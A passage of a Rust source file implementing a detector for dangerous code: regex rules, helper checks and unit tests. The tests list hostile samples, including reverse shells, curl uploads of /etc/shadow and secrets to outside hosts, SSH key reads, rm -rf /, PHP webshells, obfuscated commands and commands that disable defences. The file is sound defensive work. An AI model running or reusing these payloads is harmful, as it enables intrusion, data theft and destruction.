            r"(?i)\bnetsh[ \t]+(?:adv)?firewall[ \t]+set[ \t]+(?:opmode|allprofiles|currentprofile|domainprofile|publicprofile|privateprofile)[ \t]+(?:state[ \t]+)?(?:mode=)?(?:disable|off)\b|\bSet-MpPreference\b[^\n]{0,60}-Disable[A-Za-z0-9_]+[ \t]+(?:\$true|1)\b|\breg(?:\.exe)?[ \t]+add\b[^\n]{0,200}?\b(?:DisableAntiSpyware|DisableRealtimeMonitoring|DisableBehaviorMonitoring|fDenyTSConnections|EnableLUA|UseLogonCredential|DisableTaskMgr|ConsentPromptBehaviorAdmin)\b|\bunset[ \t]+HISTFILE\b|\bHISTFILE=/dev/null\b|\b(?:wevtutil(?:\.exe)?[ \t]+cl|Clear-EventLog)\b",
            0.7,
            High,
        ),
        r(
            "exfiltration",
            "code.exfiltration.host_info",
            concat!(
                r"(?s)(?:",
                host_src!(),
                r").{0,500}?(?:",
                net_sink!(),
                r")|(?:",
                net_sink!(),
                r").{0,250}?(?:",
                host_src!(),
                r")"
            ),
            0.5,
            Medium,
        ),
        r(
            "credential_access",
            "code.credential_access.cookie_replay",
            r"(?s)(?:\b(?:Mozilla|LWP|File)?CookieJar\(|\bSimpleCookie\(|\b_?load_cookie_file\(|\bbrowser_cookie3\.|\bcookies?\.(?:txt|pkl|pickle|json|sqlite|db)\b).{0,400}?\b(?:requests|session|s|httpx|client)\.(?:get|post|put|request)\([^)]{0,200}?\bcookies[ \t]*=",
            0.5,
            Medium,
        ),
        r(
            "ransomware",
            "code.ransomware.encrypt_in_place",
            r"(?s)\bopen\([^)\n]{0,120}[\x22'](?:r\+b|rb\+|w\+b|wb\+)[\x22'].{0,300}?\.write\(.{0,200}?(?:\bencrypt\(|\.encryptor\(\))|\bkey[ \t]*=[ \t]*(?:requests|httpx|session)\.get\(.{0,600}?(?:\.encrypt\(|\.encryptor\(\))",
            0.55,
            Medium,
        ),
        r(
            "tunneling",
            "code.network.tunnel",
            r"(?s)(?:\.accept\(\)|\bstart_server\(|ServerEndpoint\().{0,500}?(?:\.connect\(\(|\bopen_connection\(|ClientEndpoint\()|(?:ClientEndpoint\(|\bopen_connection\().{0,500}?(?:ServerEndpoint\(|\bstart_server\()|\b(?:Popen|spawn|system|run|call|check_output|check_call)\(\s*f?[\x22']ssh[ \t][^\x22'\n]{0,60}?-[LRD][ \t]*(?:[0-9.]+:)?[0-9]+",
            0.5,
            Medium,
        ),
        r(
            "abuse",
            "code.abuse.mass_mail",
            r"(?s)(?:smtplib|SMTP|yagmail|sendgrid|mailgun).{0,600}?\bcsv\.(?:reader|DictReader)\(.{0,600}?\bfor[ \t]+[A-Za-z0-9_]+[ \t]+in[ \t]+[A-Za-z0-9_]+[ \t]*:.{0,300}?\b(?:sendmail|send_message|send)\(|\bcsv\.(?:reader|DictReader)\(.{0,600}?(?:smtplib|SMTP|yagmail).{0,600}?\bfor[ \t]+[A-Za-z0-9_]+[ \t]+in[ \t]+[A-Za-z0-9_]+[ \t]*:.{0,300}?\b(?:sendmail|send_message|send)\(",
            0.5,
            Medium,
        ),
        r(
            "exfiltration",
            "code.exfiltration.relay_download",
            r"(?s)\b(?:requests|httpx|session)\.get\(.{0,400}?(?:\.send(?:all)?\(|\.storbinary\(|\.put\(|\.post\()[^)]{0,160}?\b[A-Za-z0-9_]+\.(?:content|raw)\b",
            0.45,
            Medium,
        ),
        r(
            "command_injection",
            "code.command_injection.exec_call",
            r#"\b(?:exec|system|passthru|shell_exec|popen|proc_open|eval)\([ \t]*['"](?:id|whoami|uname|pwd|ls|cat|sleep|ping|nc|curl|wget|bash|sh|cmd|dir|net)\b"#,
            0.7,
            High,
        ),
        r(
            "command_injection",
            "code.command_injection.os_system",
            r#"\b(?:os\.system|os\.popen|subprocess\.(?:call|run|Popen|check_output))\([^\n)]{0,200}?(?:ipconfig[\x22', ]+/release|shutdown|reboot|halt|poweroff|format|kill[ \t]+-9[ \t]+-1|killall|pkill|iptables[ \t]+-F|ufw[ \t]+disable|setenforce[ \t]+0|crontab|useradd|passwd|history[ \t]+-c)"#,
            0.75,
            High,
        ),
    ]
}

/// Whether an `rm -r` target is a broad or system location (vs a scoped build dir).
fn rm_target_dangerous(flags_and_target: &str, target: &str) -> bool {
    let recursive = flags_and_target.split_whitespace().skip(1).any(|f| {
        f.starts_with('-') && !f.starts_with("--") && f.contains(['r', 'R'])
            || f == "--recursive"
            || f == "--no-preserve-root"
    });
    if !recursive {
        return false;
    }
    let t = target.trim_matches(['"', '\'']);
    if matches!(
        t,
        "/" | "/*"
            | "~"
            | "~/"
            | "~/*"
            | "*"
            | "."
            | ".."
            | "./*"
            | "../*"
            | "$HOME"
            | "${HOME}"
            | "$HOME/*"
            | "/home"
            | "/root"
            | "--no-preserve-root"
            | "C:\\"
            | "c:\\"
    ) {
        return true;
    }
    if let Some(rest) = t.strip_prefix('/') {
        let first = rest.split('/').next().unwrap_or("");
        let depth = rest
            .trim_end_matches(['/', '*'])
            .split('/')
            .filter(|s| !s.is_empty())
            .count();
        let system = matches!(
            first,
            "etc"
                | "usr"
                | "bin"
                | "sbin"
                | "boot"
                | "lib"
                | "lib64"
                | "var"
                | "root"
                | "home"
                | "sys"
                | "proc"
                | "dev"
                | "opt"
                | "srv"
                | "System"
                | "Library"
                | "Users"
                | "Applications"
        );
        return system && depth <= 2 && first != "tmp";
    }
    false
}

/// Whether a separator hit starting with `|` lies in a markdown table row (`| id | name |`),
/// where the pipe is a cell border, not a shell pipe.
fn in_markdown_table(text: &str, start: usize, end: usize) -> bool {
    let hit = text[start..end].trim_start_matches([' ', '\t', '"', '\'']);
    if !hit.starts_with('|') {
        return false;
    }
    let ls = text[..start].rfind('\n').map_or(0, |i| i + 1);
    let le = text[start..].find('\n').map_or(text.len(), |i| start + i);
    let line = text[ls..le].trim();
    line.starts_with('|') && line.ends_with('|') && line.matches('|').count() >= 3
}

/// Whether a word split by quotes, backslashes, carets or empty expansions (`w'h'o'am'i`,
/// `c\\at`, `who^ami`) spells a shell command once the splitters are removed. String
/// prefixes (`u"name"`, `b'ash'`) and short words split by one escape (`i\\d` in a regex)
/// are not.
fn split_command_word(word: &str) -> bool {
    let mut buf = [0u8; 32];
    let mut n = 0;
    let b = word.as_bytes();
    let lead = b.iter().take_while(|c| c.is_ascii_alphabetic()).count();
    if matches!(b.get(lead), Some(b'\'' | b'"'))
        && matches!(
            word[..lead].to_ascii_lowercase().as_str(),
            "u" | "b" | "r" | "f" | "rb" | "br" | "fr" | "rf" | "l"
        )
    {
        return false;
    }
    let mut escapes = false;
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        if c == b'$' {
            // `$@` or `${}`
            i += if b.get(i + 1) == Some(&b'{') { 3 } else { 2 };
            continue;
        }
        if c == b'\\' || c == b'^' {
            escapes = true;
        }
        if c.is_ascii_alphabetic() {
            if n == buf.len() {
                return false;
            }
            buf[n] = c.to_ascii_lowercase();
            n += 1;
        }
        i += 1;
    }
    if escapes && n < 3 {
        return false;
    }
    std::str::from_utf8(&buf[..n]).is_ok_and(|w| SPLIT_COMMANDS.contains(&w))
}

/// Whether the `while True:` loop of a flood hit never leaves: its body (the indented block,
/// or the rest of the line) has no `break`, `return`, `raise`, `yield` or exit call.
fn loop_never_exits(text: &str, start: usize) -> bool {
    let rest = &text[start..];
    if !rest.starts_with("while") {
        return true;
    }
    let ls = text[..start].rfind('\n').map_or(0, |i| i + 1);
    let indent = text[ls..start].len();
    let mut body_end = rest.find('\n').map_or(text.len(), |i| start + i);
    let first_line = &text[start..body_end];
    let inline = first_line
        .split_once(':')
        .is_some_and(|(_, b)| !b.trim().is_empty() && !b.trim_start().starts_with('#'));
    if !inline {
        for line in text[body_end..].split_inclusive('\n').skip(1) {
            let ind = line.len() - line.trim_start_matches([' ', '\t']).len();
            if !line.trim().is_empty() && ind <= indent {
                break;
            }
            body_end += line.len();
        }
        body_end = (body_end + 1).min(text.len());
    }
    let body = &text[start..body_end];
    !["break", "return", "raise", "yield", "exit(", "quit("]
        .iter()
        .any(|k| body.contains(k))
}

/// Whether a path hides its names behind wildcards (`/???/??t`, `/e??/p?ss?d`): at least
/// two segments, and either two segments with `?` or one segment of `?`/`*` only.
fn wildcard_path(text: &str, start: usize, end: usize) -> bool {
    if let Some(&c) = text.as_bytes().get(start.wrapping_sub(1)) {
        if c.is_ascii_alphanumeric() || matches!(c, b':' | b'/' | b'.' | b'_' | b'-' | b'~') {
            return false;
        }
    }
    let segs: Vec<&str> = text[start..end]
        .split('/')
        .filter(|s| !s.is_empty())
        .collect();
    let wild = segs.iter().filter(|s| s.contains('?')).count();
    let all_wild = segs
        .iter()
        .any(|s| s.len() >= 2 && s.contains('?') && s.bytes().all(|c| c == b'?' || c == b'*'));
    segs.len() >= 2 && (wild >= 2 || all_wild)
}

/// Compiled dangerous-code detector.
pub(crate) struct Code {
    pub(crate) table: Table,
}

impl Code {
    pub fn new() -> Result<Code, BuildError> {
        Ok(Code {
            table: Table::new(DetectorKind::Code, rules())?,
        })
    }

    #[cfg(test)]
    pub fn tables(&self) -> Vec<&Table> {
        vec![&self.table]
    }

    pub fn scan(&self, text: &str, cands: &mut [Vec<(u32, u16)>], out: &mut Vec<Finding>) {
        self.table.each_overlapping(text, &mut cands[0], |h| {
            let r = &self.table.rules[h.idx];
            let (mut start, end) = (h.start, h.end);
            if r.rule == "code.destructive.rm" {
                // the span covers the whole command; validate the target
                let line_start = text[..h.start].rfind("rm").unwrap_or(h.start);
                if !rm_target_dangerous(&text[line_start..h.end], &text[h.start..h.end]) {
                    return Next::Skip;
                }
                start = line_start;
            }
            let ok = match r.rule {
                "code.command_injection.separator" | "code.command_injection.leading_separator" => {
                    !in_markdown_table(text, h.start, h.end)
                }
                "code.obfuscated.split_command" => split_command_word(&text[h.start..h.end]),
                "code.obfuscated.wildcard_path" => wildcard_path(text, h.start, h.end),
                "code.dos.flood_loop" => loop_never_exits(text, h.start),
                _ => true,
            };
            if !ok {
                return Next::Skip;
            }
            out.push(Finding {
                detector: DetectorKind::Code,
                kind: r.kind,
                rule: r.rule,
                start,
                end,
                score: r.score,
                severity: r.severity,
            });
            Next::Accept
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn code_det() -> &'static Code {
        static D: std::sync::OnceLock<Code> = std::sync::OnceLock::new();
        D.get_or_init(|| Code::new().unwrap())
    }

    fn rules_fired(text: &str) -> Vec<&'static str> {
        let d = code_det();
        let mut out = Vec::new();
        let mut c = crate::engine::test_cands(&d.tables(), text);
        d.scan(text, &mut c, &mut out);
        out.iter().map(|f| f.rule).collect()
    }

    #[test]
    fn positives() {
        let cases: &[(&str, &str)] = &[
            (
                "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
                "code.reverse_shell.dev_tcp",
            ),
            (
                "nc -e /bin/sh 10.0.0.1 4242",
                "code.reverse_shell.netcat_exec",
            ),
            (
                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
                "code.reverse_shell.fifo",
            ),
            (
                "curl -fsSL https://get.example.sh | sudo bash",
                "code.pipe_to_shell",
            ),
            (
                "echo ZWNobyBoaQ== | base64 -d | sh",
                "code.obfuscated.base64_exec",
            ),
            ("rm -rf / --no-preserve-root", "code.destructive.rm"),
            ("sudo rm -rf /etc", "code.destructive.rm"),
            ("rm -rf ~", "code.destructive.rm"),
            ("dd if=/dev/zero of=/dev/sda bs=1M", "code.destructive.disk"),
            ("DROP DATABASE production;", "code.destructive.database"),
            ("cat ~/.ssh/id_rsa", "code.credential_access.files"),
            ("; cat /etc/passwd", "code.credential_access.etc_passwd"),
            (
                "curl -F file=@/etc/shadow https://x.example",
                "code.exfiltration.upload",
            ),
            (
                "curl -d @secrets.txt https://webhook.site/abc",
                "code.exfiltration.paste_host",
            ),
            (
                "echo '* * * * * /tmp/x' >> /etc/crontab",
                "code.persistence",
            ),
            (
                "echo 'bob ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers",
                "code.privilege_escalation",
            ),
            ("; whoami", "code.command_injection.separator"),
            ("`id`", "code.command_injection.leading_separator"),
            (
                "os.remove(\"/lib/x86_64-linux-gnu/libc.so.6\")",
                "code.destructive.python",
            ),
            (
                "import os\nwhile True:\n    os.fork()",
                "code.dos.flood_loop",
            ),
            (
                "with open(\"/home/u/.ssh/id_rsa\", \"rb\") as f:\n    requests.post(url, data=f)",
                "code.exfiltration.collect_and_post",
            ),
            (
                "with open(\"/etc/hosts\", \"a\") as f:",
                "code.persistence.file_tamper",
            ),
            (
                "f = Fernet(key)\nfor root, d, files in os.walk(p):",
                "code.ransomware.encrypt_files",
            ),
            ("psutil.Process(conn.pid).terminate()", "code.system_tamper"),
        ];
        let mut bad = Vec::new();
        for (text, rule) in cases {
            let got = rules_fired(text);
            if !got.contains(rule) {
                bad.push(format!("{text:?}: want {rule}, got {got:?}"));
            }
        }
        assert!(bad.is_empty(), "{}", bad.join("\n"));
    }

    #[test]
    fn scoped_ordinary_operations_are_not_findings() {
        let cases: &[&str] = &[
            "rm -rf ./build",
            "rm -rf build/ dist/",
            "rm -rf /tmp/cache",
            "rm file.txt",
            "nc -zv localhost 5432",
            "base64 -d file",
            "base64 --decode input.b64 > out.bin",
            "curl -O https://example.com/file.tar.gz",
            "ls -la",
            "DELETE FROM users WHERE id = 4;",
            "ppmcie -red|green|blue xpos ypos",
            "git rm -r --cached node_modules",
            "chmod +x script.sh",
            "while True:\n    line = input()\n    print(line)",
            "with open(\"notes.txt\", \"r\") as f:\n    print(f.read())",
            "with open(\"/etc/hosts\") as f:",
            "systemctl status nginx",
        ];
        let bad: Vec<String> = cases
            .iter()
            .filter(|t| !rules_fired(t).is_empty())
            .map(|t| format!("{t:?}: {:?}", rules_fired(t)))
            .collect();
        assert!(bad.is_empty(), "{}", bad.join("\n"));
    }

    /// `(rule, matched text)` of every finding.
    fn hits(text: &str) -> Vec<(&'static str, String)> {
        let d = code_det();
        let mut out = Vec::new();
        let mut c = crate::engine::test_cands(&d.tables(), text);
        d.scan(text, &mut c, &mut out);
        out.iter()
            .map(|f| (f.rule, text[f.start..f.end].to_owned()))
            .collect()
    }

    /// Each case: text, rule that must fire, the exact text of its span.
    fn assert_spans(cases: &[(&str, &str, &str)]) {
        let mut bad = Vec::new();
        for (text, rule, span) in cases {
            let got = hits(text);
            if !got.iter().any(|(r, s)| r == rule && s == span) {
                bad.push(format!("{text:?}: want {rule} on {span:?}, got {got:?}"));
            }
        }
        assert!(bad.is_empty(), "{}", bad.join("\n"));
    }

    /// Each case: text, rule that must NOT fire.
    fn assert_absent(cases: &[(&str, &str)]) {
        let mut bad = Vec::new();
        for (text, rule) in cases {
            let got = rules_fired(text);
            if got.contains(rule) {
                bad.push(format!("{text:?}: {rule} fired ({got:?})"));
            }
        }
        assert!(bad.is_empty(), "{}", bad.join("\n"));
    }

    const SEP: &str = "code.command_injection.separator";
    const LEAD: &str = "code.command_injection.leading_separator";

    #[test]
    fn separator_chains_recon_commands() {
        assert_spans(&[
            ("report.pdf; whoami", SEP, "; whoami"),
            ("x.txt && /usr/bin/id", SEP, "&& /usr/bin/id"),
            ("name=bob|id|", SEP, "|id|"),
            (
                "8.8.8.8 & net localgroup administrators",
                SEP,
                "& net localgroup ",
            ),
            (
                "host || ping -n 20 127.0.0.1",
                SEP,
                "|| ping -n 20 127.0.0.1",
            ),
            ("q=1%0awhoami", SEP, "%0awhoami"),
            ("val\\nuname -a", SEP, "\\nuname -a"),
            ("file; netstat -ano", SEP, "; netstat -ano"),
            ("a;`sleep 9`", SEP, ";`sleep 9"),
            ("zone; type C:\\boot.ini", SEP, "; type C:\\boot.ini"),
        ]);
    }

    #[test]
    fn separator_look_alikes_are_not_findings() {
        assert_absent(&[
            ("vagrant halt name|id --force", SEP),
            ("| id | name | email |\n|---|---|---|", SEP),
            ("| id | name | email |", LEAD),
            ("items.map(|id| lookup(id))", SEP),
            ("fields: name;id;email", SEP),
            ("if [ \"$(id -u)\" != 0 ]; then\n  echo \"$USER\"\nfi", SEP),
            ("while true; do check; sleep 5; done", SEP),
            ("make && sleep 2 && ./run", SEP),
            ("ifconfig | jc --ifconfig -p", SEP),
            ("cd build && ls -la /tmp", SEP),
        ]);
    }

    #[test]
    fn leading_separator_opens_an_injected_value() {
        assert_spans(&[
            ("; ls -la /var/log", LEAD, "; ls "),
            ("a) | cat /home/user/.profile", LEAD, "a) | cat /"),
            ("' && sleep 12", LEAD, "' && sleep 12"),
            (
                "img.png* || python3 -c 'print(1)'",
                LEAD,
                "img.png* || python3 -c",
            ),
            ("\"|| powershell -nop", LEAD, "\"|| powershell "),
            ("10.0.0.5 & tasklist", LEAD, "10.0.0.5 & tasklist"),
            ("%3b wget http://198.51.100.7/a.sh", LEAD, "%3b wget "),
            ("$(`cat /etc/issue`)", LEAD, "$(`cat /"),
            (
                "\\n\\033[1Acurl http://x.example/p",
                LEAD,
                "\\n\\033[1Acurl ",
            ),
            ("`whoami`", LEAD, "`whoami`"),
            ("system('uname -r')", LEAD, "system('uname "),
        ]);
    }

    #[test]
    fn leading_separator_look_alikes_are_not_findings() {
        assert_absent(&[
            ("ls | grep foo", LEAD),
            ("dmesg | perl -ne 'print if /usb/'", LEAD),
            ("HOST=\"$(hostname)\"\necho $HOST", LEAD),
            ("`whoami` prints the current user name", LEAD),
            ("; this is an ini comment", LEAD),
            ("&nbsp; spacing", LEAD),
            ("exec(open('version.py').read())", LEAD),
            ("\"\n  printf 'usage: %s\\n' \"$0\"", LEAD),
            ("./configure && make", LEAD),
        ]);
    }

    #[test]
    fn encoded_newline_and_url_substitution() {
        assert_spans(&[
            (
                "GET /ping?host=1%0Acat%20/etc/hostname",
                "code.command_injection.encoded_newline",
                "%0Acat%20/",
            ),
            (
                "id=3%0d%0aecho%20pwned",
                "code.command_injection.encoded_newline",
                "%0d%0aecho%20",
            ),
            (
                "curl http://c2.example/x?u=`whoami`",
                "code.command_injection.subst_in_url",
                "http://c2.example/x?u=`whoami`",
            ),
            (
                "wget https://a.example/?h=$(hostname)",
                "code.command_injection.subst_in_url",
                "https://a.example/?h=$(hostname)",
            ),
        ]);
        assert_absent(&[
            (
                "https://x.example/?msg=line%0Acat%20food",
                "code.command_injection.encoded_newline",
            ),
            (
                "see https://docs.example/shell#command-substitution for $(...)",
                "code.command_injection.subst_in_url",
            ),
        ]);
    }

    #[test]
    fn php_ssi_and_shellshock() {
        assert_spans(&[
            (
                "<?php passthru($_REQUEST['c']); ?>",
                "code.webshell.php",
                "<?php passthru(",
            ),
            (
                "echo '<?= eval(base64_decode($_POST[\"p\"])) ?>' > x.php",
                "code.webshell.php",
                "<?= eval(",
            ),
            (
                "$out = shell_exec($_GET['q']);",
                "code.webshell.php",
                "shell_exec($_GET",
            ),
            (
                "name={${system('id')}}",
                "code.command_injection.php_eval",
                "{${system(",
            ),
            (
                "${@eval($_POST[1])}",
                "code.command_injection.php_eval",
                "${@eval(",
            ),
            (
                "<!--#exec cmd=\"ls -la\" -->",
                "code.command_injection.ssi",
                "<!--#exec cmd=",
            ),
            (
                "User-Agent: () { :; }; /bin/id",
                "code.command_injection.shellshock",
                "() { :; };",
            ),
            (
                "x=phpinfo();",
                "code.command_injection.phpinfo",
                "phpinfo()",
            ),
        ]);
        assert_absent(&[
            (
                "<?php echo htmlspecialchars($name); ?>",
                "code.webshell.php",
            ),
            ("$page = $_GET['page'] ?? 'home';", "code.webshell.php"),
            ("const s = `${fmt(x)}`;", "code.command_injection.php_eval"),
            (
                "<!--#include virtual=\"/footer.html\" -->",
                "code.command_injection.ssi",
            ),
            (
                "Object.prototype.get = function get() {};",
                "code.command_injection.shellshock",
            ),
        ]);
    }

    #[test]
    fn obfuscated_commands() {
        assert_spans(&[
            ("w'h'o'am'i", "code.obfuscated.split_command", "w'h'o'am'i"),
            (
                "c\"a\"t /etc/group",
                "code.obfuscated.split_command",
                "c\"a\"t",
            ),
            ("wh\\oa\\mi", "code.obfuscated.split_command", "wh\\oa\\mi"),
            ("who^am^i", "code.obfuscated.split_command", "who^am^i"),
            ("who$@ami", "code.obfuscated.split_command", "who$@ami"),
            (
                ";/???/??t /???/p??s??",
                "code.obfuscated.wildcard_path",
                "/???/??t",
            ),
            ("/b??/e?ho hi", "code.obfuscated.wildcard_path", "/b??/e?ho"),
            ("cat${IFS}/etc/group", "code.obfuscated.ifs", "cat${IFS}/"),
            ("ls$IFS$9-la", "code.obfuscated.ifs", "ls$IFS$9-"),
            (
                "{cat,/etc/hosts}",
                "code.obfuscated.brace_expansion",
                "{cat,/etc/hosts}",
            ),
            (
                "{ls,-la,/}",
                "code.obfuscated.brace_expansion",
                "{ls,-la,/}",
            ),
            (
                "$'\\x77\\x68\\x6f\\x61\\x6d\\x69'",
                "code.obfuscated.char_encoding",
                "$'\\x77\\x68\\x6f\\x61\\x6d\\x69",
            ),
            (
                "echo 'imaohw' | rev | sh",
                "code.obfuscated.char_encoding",
                "| rev | sh",
            ),
            (
                "cd ${HOME:0:1}tmp",
                "code.obfuscated.char_encoding",
                "${HOME:0:1}",
            ),
            (
                "%COMSPEC:~-7,1%",
                "code.obfuscated.char_encoding",
                "%COMSPEC:~-7,1%",
            ),
        ]);
        assert_absent(&[
            ("it's O'Neil's book", "code.obfuscated.split_command"),
            ("x = u\"name\"", "code.obfuscated.split_command"),
            (
                "re.compile(r'(i\\d86|x86_64)')",
                "code.obfuscated.split_command",
            ),
            (
                "\"\"\"Return the type\"\"\"",
                "code.obfuscated.split_command",
            ),
            ("ls /dev/ttyS?", "code.obfuscated.wildcard_path"),
            ("https://x.example/a?b/c?d", "code.obfuscated.wildcard_path"),
            ("OLDIFS=$IFS; IFS=,", "code.obfuscated.ifs"),
            ("mkdir -p src/{lib,bin}", "code.obfuscated.brace_expansion"),
            ("classes {cat,dog}", "code.obfuscated.brace_expansion"),
            (
                "printf $'\\e[31mred\\e[0m'",
                "code.obfuscated.char_encoding",
            ),
            ("set d=%date:~10,4%", "code.obfuscated.char_encoding"),
        ]);
    }

    #[test]
    fn defense_evasion() {
        assert_spans(&[
            (
                "netsh advfirewall set allprofiles state off",
                "code.defense_evasion",
                "netsh advfirewall set allprofiles state off",
            ),
            (
                "Set-MpPreference -DisableRealtimeMonitoring $true",
                "code.defense_evasion",
                "Set-MpPreference -DisableRealtimeMonitoring $true",
            ),
            (
                "reg add HKLM\\SYSTEM\\X /v UseLogonCredential /t REG_DWORD /d 1",
                "code.defense_evasion",
                "reg add HKLM\\SYSTEM\\X /v UseLogonCredential",
            ),
            ("unset HISTFILE", "code.defense_evasion", "unset HISTFILE"),
        ]);
        assert_absent(&[
            ("netsh advfirewall show allprofiles", "code.defense_evasion"),
            ("reg query HKLM\\Software\\Vendor", "code.defense_evasion"),
            ("echo $HISTFILE", "code.defense_evasion"),
        ]);
    }

    #[test]
    fn spyware_style_code() {
        assert_spans(&[
            (
                "import os, httpx\nhttpx.post(URL, json={'u': os.getenv('USERNAME')})",
                "code.exfiltration.host_info",
                "httpx.post(URL, json={'u': os.getenv('USERNAME'",
            ),
            (
                "name = socket.gethostname()\nconn.send(name.encode())",
                "code.exfiltration.host_info",
                "socket.gethostname()\nconn.send(",
            ),
            (
                "jar = LWPCookieJar('c.txt'); jar.load()\nr = session.get(u, cookies=jar)",
                "code.credential_access.cookie_replay",
                "LWPCookieJar('c.txt'); jar.load()\nr = session.get(u, cookies=",
            ),
            (
                "with open(p, 'rb+') as fh:\n    data = fh.read()\n    fh.seek(0)\n    fh.write(box.encrypt(data))",
                "code.ransomware.encrypt_in_place",
                "open(p, 'rb+') as fh:\n    data = fh.read()\n    fh.seek(0)\n    fh.write(box.encrypt(",
            ),
            (
                "subprocess.run(\"ssh -R 9000:localhost:22 relay.example\", shell=True)",
                "code.network.tunnel",
                "run(\"ssh -R 9000",
            ),
            (
                "c, _ = srv.accept()\nup.connect((HOST, 443))",
                "code.network.tunnel",
                ".accept()\nup.connect((",
            ),
            (
                "import smtplib, csv\nrows = csv.reader(open('list.csv'))\nfor r in rows:\n    s.sendmail(me, r[0], body)",
                "code.abuse.mass_mail",
                "smtplib, csv\nrows = csv.reader(open('list.csv'))\nfor r in rows:\n    s.sendmail(",
            ),
            (
                "r = httpx.get(SRC)\nsock.sendall(r.content)",
                "code.exfiltration.relay_download",
                "httpx.get(SRC)\nsock.sendall(r.content",
            ),
        ]);
        assert_absent(&[
            (
                "token = os.environ['API_TOKEN']\nrequests.post(url, headers={'Authorization': token})",
                "code.exfiltration.host_info",
            ),
            (
                "print(platform.system())\nwith open('out.txt', 'w') as f: f.write('x')",
                "code.exfiltration.host_info",
            ),
            (
                "r = requests.get(url, cookies={'session': sid})",
                "code.credential_access.cookie_replay",
            ),
            (
                "token = Fernet(key).encrypt(b'secret')\nwith open('token.bin', 'wb') as f:\n    f.write(token)",
                "code.ransomware.encrypt_in_place",
            ),
            (
                "conn, addr = s.accept()\ndata = conn.recv(1024)\nconn.sendall(data)",
                "code.network.tunnel",
            ),
            ("ssh -L 8080:localhost:80 bastion", "code.network.tunnel"),
            (
                "import csv\nfor row in csv.reader(f):\n    print(row)",
                "code.abuse.mass_mail",
            ),
            (
                "r = requests.get(url)\nreturn Response(r.content)",
                "code.exfiltration.relay_download",
            ),
        ]);
    }

    #[test]
    fn flood_loop_needs_a_loop_that_never_exits() {
        assert_spans(&[(
            "while True:\n    threading.Thread(target=hit).start()",
            "code.dos.flood_loop",
            "while True:\n    threading.Thread(",
        )]);
        assert_absent(&[
            (
                "while True:\n    chunk = f.read(4096)\n    if not chunk:\n        break\n    out.append(chunk)",
                "code.dos.flood_loop",
            ),
            (
                "def items():\n    while True:\n        batch.append(next(it))\n        yield batch",
                "code.dos.flood_loop",
            ),
        ]);
    }

    #[test]
    fn scripted_reverse_shells_and_download_exec() {
        assert_spans(&[
            (
                "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);if(connect(S,$a)){open(STDIN,\">&S\");exec(\"/bin/sh\")}'",
                "code.reverse_shell.scripted",
                "socket(S,PF_INET,SOCK_STREAM,6);if(connect(S,$a)){open(STDIN",
            ),
            (
                "subprocess.run([\"curl\", \"-o\", \"x.py\", URL])\nexec(open(\"x.py\").read())",
                "code.download_exec",
                "\"curl\", \"-o\", \"x.py\", URL])\nexec(",
            ),
            (
                "with open('/etc/ld.so.preload', 'w') as f:",
                "code.persistence.file_tamper",
                "open('/etc/ld.so.preload', 'w'",
            ),
        ]);
        assert_absent(&[(
            "with open('/boot/config.txt') as f:",
            "code.persistence.file_tamper",
        )]);
    }
}
